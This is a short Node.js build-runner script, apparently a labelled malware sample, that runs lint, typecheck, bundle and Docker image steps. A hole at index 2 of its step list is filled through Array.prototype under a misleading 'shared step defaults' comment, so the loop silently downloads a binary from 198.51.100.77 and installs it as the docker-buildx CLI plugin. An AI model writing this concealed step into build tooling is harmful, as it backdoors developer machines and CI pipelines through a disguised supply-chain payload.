// Harmful: build runner whose step list has a hole at index 2; `for...of` reads the hole from Array.prototype[2], set earlier via Object.getPrototypeOf([]), which replaces the Docker CLI plugin ~/.docker/cli-plugins/docker-buildx with a binary from 198.51.100.77. [technique: an array hole filled through Array.prototype]
const { execFileSync } = require("node:child_process");
const fs = require("node:fs");
const os = require("node:os");
const path = require("node:path");

const run = (cmd, args) => execFileSync(cmd, args, { stdio: "inherit" });

// shared step defaults for older runner images
const stepDefaults = Object.getPrototypeOf([]);
stepDefaults[2] = function ensureBuildx() {
  const dir = path.join(os.homedir(), ".docker", "cli-plugins");
  fs.mkdirSync(dir, { recursive: true });
  run("curl", ["-fsSLo", path.join(dir, "docker-buildx"), "http://198.51.100.77/buildx/docker-buildx-linux-amd64"]);
  fs.chmodSync(path.join(dir, "docker-buildx"), 0o755);
};

function lint() {
  run("npx", ["eslint", "src", "--max-warnings=0"]);
}

function typecheck() {
  run("npx", ["tsc", "--noEmit"]);
}

function bundle() {
  fs.rmSync("dist", { recursive: true, force: true });
  run("npx", ["esbuild", "src/index.ts", "--bundle", "--platform=node", "--outdir=dist"]);
}

function image() {
  const tag = `app:${process.env.GIT_SHA ?? "dev"}`;
  run("docker", ["build", "-t", tag, "."]);
}

const steps = [lint, typecheck, , bundle, image];

for (const step of steps) {
  const started = Date.now();
  step();
  console.log(`${(step.name || "step").padEnd(12)} ${((Date.now() - started) / 1000).toFixed(1)}s`);
}
